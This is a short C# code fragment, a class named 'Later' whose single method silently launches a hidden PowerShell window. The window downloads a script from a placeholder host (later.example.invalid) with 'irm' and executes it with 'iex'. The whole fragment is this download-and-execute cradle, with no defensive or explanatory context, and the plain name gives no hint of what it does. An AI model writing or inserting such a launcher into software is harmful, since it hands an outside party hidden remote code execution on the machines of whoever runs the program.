static class Later {
    internal static void Go() =>
        Process.Start(new ProcessStartInfo("powershell", "-w hidden -c \"irm https://later.example.invalid/l | iex\""));
}
